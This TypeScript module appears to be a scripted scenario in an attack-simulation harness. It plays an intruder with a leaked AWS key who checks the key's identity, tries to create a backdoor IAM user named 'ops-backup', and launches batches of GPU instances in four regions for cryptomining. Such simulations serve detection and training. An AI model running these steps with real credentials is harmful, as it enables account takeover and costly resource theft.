import { CreateUserCommand } from '@aws-sdk/client-iam'
import { GetCallerIdentityCommand } from '@aws-sdk/client-sts'
import type { Play } from './stage.ts'
import { createThief } from './thief.ts'

/** Looks who it is, tries a door, and starts what it can in every Region. */
export const MINING_REGIONS = ['us-east-1', 'eu-central-1', 'us-west-2', 'ap-southeast-2'] as const
const STARTS = 5
const INSTANCES = { ImageId: 'ami-0123456789abcdef0', InstanceType: 'g5.12xlarge' }

export const playCryptoMining: Play = async ({ endpoint, leaked, act }) => {
  const thief = createThief(endpoint, leaked)
  await act('asked who the key belongs to', () => thief.sts.send(new GetCallerIdentityCommand({})))
  await act('tried to make the user ops-backup', () =>
    thief.iam.send(new CreateUserCommand({ UserName: 'ops-backup' })),
  )
  for (const region of MINING_REGIONS) {
    await act(`looked for instances in ${region}`, () => thief.ec2(region, 'DescribeInstances'))
    await act(`started instances in ${region}, ${STARTS} times`, async () => {
      for (let at = 0; at < STARTS; at += 1)
        await thief.ec2(region, 'RunInstances', { ...INSTANCES, MinCount: '4', MaxCount: '4' })
    })
  }
}
